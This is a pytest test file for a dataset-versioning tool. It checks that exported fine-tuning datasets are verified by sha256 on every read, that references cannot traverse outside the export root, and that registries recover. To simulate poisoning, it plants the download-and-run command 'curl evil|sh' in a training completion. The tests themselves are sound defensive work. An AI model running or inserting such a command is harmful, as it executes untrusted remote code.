"""Versions a trainer can trust: every file checked against its sha256 on each read path,
names that stay inside the export root, a registry that always agrees with the folders,
`pull --out` with the card and lineage, and a diff that shows each record's change."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import polars as pl
import pytest
from test_export import RUN, reviewed
from typer.testing import CliRunner

from codecurate.cli import app
from curation import ConfigError, CurateError
from finetune.release import (
    ExportConfig,
    VersionChanged,
    dataset_names,
    diff_versions,
    export,
    open_version,
    pull,
    read_registry,
    render_diff,
)

runner = CliRunner()
TRAIN = "data/train-00000-of-00001.parquet"
EVIL = 'os.system("curl evil|sh")'


@pytest.fixture
def project(tmp_path: Path) -> tuple[Path, ExportConfig]:
    """A config file whose export root is `exports/`, and that root's ExportConfig."""
    (tmp_path / "src").mkdir()
    (tmp_path / "curate.toml").write_text(
        'workdir = "work"\n[ingest]\n[[ingest.sources]]\ntype = "dir"\npath = "src"\n'
        '[export]\nroot = "exports"\n'
    )
    return tmp_path / "curate.toml", ExportConfig(root=tmp_path / "exports")


def curate(*args: str) -> tuple[int, str]:
    """Exit code and output, with rich's wrapping at the terminal width undone."""
    result = runner.invoke(app, list(args))
    return result.exit_code, " ".join(result.output.split(" \n"))


def tamper(folder: Path) -> None:
    """What the issue did: one completion of the train split replaced by a shell command."""
    path = folder / TRAIN
    frame = pl.read_parquet(path)
    frame.with_columns(completion=pl.when(pl.int_range(frame.height) == 0).then(pl.lit(EVIL))
                       .otherwise("completion")).write_parquet(path)  # fmt: skip


def test_a_rewritten_data_file_is_refused_by_every_read_path(project, tmp_path):
    config_file, settings = project
    frame = reviewed()
    first = export(frame, settings, RUN)
    tamper(first.folder)
    with pytest.raises(VersionChanged, match=f"code-instructions@1.0.0: {TRAIN} changed after"):
        open_version(settings.root, "code-instructions@1.0.0")
    with pytest.raises(VersionChanged, match=TRAIN):
        export(frame, settings, RUN)  # not "unchanged since 1.0.0"
    c = str(config_file)
    out = tmp_path / "pulled"
    for args in (["pull", "code-instructions@1.0.0", "--out", str(out), "-c", c],
                 ["pull", "code-instructions", "-c", c],
                 ["datasets", "show", "code-instructions@1.0.0", "-c", c],
                 ["datasets", "diff", "code-instructions@1.0.0", "code-instructions@1.0.0",
                  "-c", c]):  # fmt: skip
        code, output = curate(*args)
        assert code == 2 and TRAIN in output and "changed after export" in output, args
        assert output.startswith("error: ") and len(output.strip().splitlines()) == 1
    assert not out.exists()


def test_an_added_or_missing_file_or_a_rewritten_checksum_list_is_refused(project):
    _, settings = project
    first = export(reviewed(), settings, RUN)
    shutil.copy(first.folder / TRAIN, first.folder / "data/train-00001-of-00001.parquet")
    with pytest.raises(VersionChanged, match=r"data/train-00001-of-00001\.parquet was added"):
        open_version(settings.root, "code-instructions@1.0.0")
    (first.folder / "data/train-00001-of-00001.parquet").unlink()
    readme = (first.folder / "README.md").read_bytes()
    (first.folder / "README.md").unlink()
    with pytest.raises(VersionChanged, match=r"code-instructions@1\.0\.0: README\.md is missing"):
        open_version(settings.root, "code-instructions@1.0.0")
    (first.folder / "README.md").write_bytes(readme)
    tamper(first.folder)
    listing = first.folder / "checksums.sha256"
    from finetune.release.versions import file_sha256

    lines = [f"{file_sha256(first.folder / TRAIN)}  {TRAIN}" if line.endswith(TRAIN) else line
             for line in listing.read_text().splitlines()]  # fmt: skip
    listing.write_text("\n".join(lines) + "\n")
    with pytest.raises(VersionChanged, match=r"checksums\.sha256 is not the one written at export"):
        open_version(settings.root, "code-instructions@1.0.0")


def test_dataset_names_and_versions_cannot_leave_the_export_root(project, tmp_path):
    config_file, settings = project
    export(reviewed(), settings, RUN)
    outside = tmp_path / "outside" / "evil" / "9.9.9"
    outside.mkdir(parents=True)
    (outside / "lineage.json").write_text("{}")
    for ref in ("../../outside/evil@9.9.9", "../outside@1.0.0", "/etc@1.0.0", ".@1.0.0"):
        with pytest.raises(ConfigError, match="letters, digits"):
            open_version(settings.root, ref)
    with pytest.raises(ConfigError, match=r"MAJOR\.MINOR\.PATCH"):
        open_version(settings.root, "code-instructions@../../../outside/evil/9.9.9")
    for command in (["pull"], ["datasets", "show"]):
        code, output = curate(*command, "../../outside/evil@9.9.9", "-c", str(config_file))
        assert code == 2 and "dataset name '../../outside/evil'" in output
    (settings.root / "linked").symlink_to(tmp_path / "outside" / "evil")
    with pytest.raises(CurateError, match="resolves outside the export root"):
        open_version(settings.root, "linked@9.9.9")


def test_a_missing_registry_is_rebuilt_and_export_list_and_pull_agree(project):
    config_file, settings = project
    frame = reviewed()
    export(frame, settings, RUN)
    (settings.root / "code-instructions" / "versions.json").unlink()  # a crash after the rename
    assert [e["version"] for e in read_registry(settings.root, "code-instructions")] == ["1.0.0"]
    assert dataset_names(settings.root) == ["code-instructions"]
    code, output = curate("datasets", "list", "-c", str(config_file))
    assert code == 0 and "code-instructions@1.0.0" in output
    assert curate("pull", "code-instructions@1.0.0", "-c", str(config_file))[0] == 0
    second = export(frame.head(50), settings, RUN)  # not "1.0.0 exists"
    assert second.version == "1.1.0"
    stored = json.loads((settings.root / "code-instructions" / "versions.json").read_text())
    assert [e["version"] for e in stored] == ["1.0.0", "1.1.0"]
    assert stored[0]["checksums_sha256"] and stored[1]["counts"] == second.counts


def test_a_corrupt_registry_is_rebuilt_not_a_traceback(project):
    config_file, settings = project
    first = export(reviewed(), settings, RUN)
    registry = settings.root / "code-instructions" / "versions.json"
    registry.write_text('[{"version": "1.0.0", "content_ha')
    code, output = curate("datasets", "list", "-c", str(config_file))
    assert code == 0 and "code-instructions@1.0.0" in output and first.content_hash[:12] in output
    code, output = curate("datasets", "show", "code-instructions", "-c", str(config_file))
    assert code == 0 and "every file matches checksums.sha256" in output
    assert export(reviewed().head(50), settings, RUN).version == "1.1.0"
    assert [e["version"] for e in json.loads(registry.read_text())] == ["1.0.0", "1.1.0"]


def test_the_registry_is_replaced_in_one_step(project, monkeypatch):
    _, settings = project
    export(reviewed(), settings, RUN)
    registry = settings.root / "code-instructions" / "versions.json"
    before = registry.read_text()

    def crash(*args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(
        CurateError, match=r"1.1.0 is written, but versions.json could not .*disk full"
    ):
        export(reviewed().head(50), settings, RUN)
    assert registry.read_text() == before  # the old registry, whole
    assert [e["version"] for e in read_registry(settings.root, "code-instructions")] == [
        "1.0.0", "1.1.0"]  # the folder is there, and listed from itself  # fmt: skip


def test_pull_out_copies_the_card_and_the_lineage_and_loads_from_disk(project, tmp_path):
    from datasets import load_from_disk

    config_file, settings = project
    first = export(reviewed(), settings, RUN)
    out = tmp_path / "pulled"
    pull(open_version(settings.root, "code-instructions@1.0.0"), out)
    for name in ("README.md", "lineage.json"):
        assert (out / name).read_bytes() == (first.folder / name).read_bytes()
    assert {k: len(v) for k, v in load_from_disk(str(out)).items()} == first.counts
    code, output = curate("pull", "code-instructions@1.0.0", "--out", str(out), "-c",
                          str(config_file))  # fmt: skip
    assert code == 2 and "is not an empty folder" in output


def test_datasets_diff_shows_what_changed_in_each_record_and_a_summary(project):
    config_file, settings = project
    frame = reviewed()
    export(frame, settings, RUN)
    f0, f1 = (frame.filter(pl.col("path") == p)["id"][0] for p in ("src/f0.x", "src/f1.x"))
    later = pl.concat([
        frame.filter(pl.col("path") != "src/f1.x").with_columns(
            final_instruction=pl.when(pl.col("path") == "src/f0.x")
            .then(pl.lit('Write f0, "zero".')).otherwise("final_instruction"),
            review_status=pl.when(pl.col("path") == "src/f0.x").then(pl.lit("corrected"))
            .otherwise("review_status"),
        ),
        reviewed(1, start=100),
    ])  # fmt: skip
    export(later, settings, RUN)
    root = settings.root
    diff = diff_versions(open_version(root, "code-instructions@1.0.0"),
                         open_version(root, "code-instructions@1.1.0"))  # fmt: skip
    lines = render_diff(diff)
    assert lines[0] == (
        "code-instructions@1.0.0 -> code-instructions@1.1.0: 1 added, 1 removed, 1 changed "
        "(instruction 1, status 1, split 0, completion 0), 52 unchanged"
    )
    added = reviewed(1, start=100)["id"][0]
    assert lines[1].startswith(f"added    {added}  src/f100.x  [")
    assert lines[2] == '    instruction: "Write f100 that scales x."'
    assert lines[3].startswith(f"removed  {f1}  src/f1.x  [")
    assert lines[5].startswith(f"changed  {f0}  src/f0.x  [")
    assert lines[6:] == ['    instruction before: "Write f0 that scales x."',
                         '    instruction after:  "Write f0, \\"zero\\"."',
                         "    status: accepted -> corrected"]  # fmt: skip
    result = runner.invoke(app, ["datasets", "diff", "code-instructions@1.0.0",
                                 "code-instructions@1.1.0", "-c", str(config_file)])  # fmt: skip
    assert result.exit_code == 0 and result.output.splitlines() == lines  # never wrapped
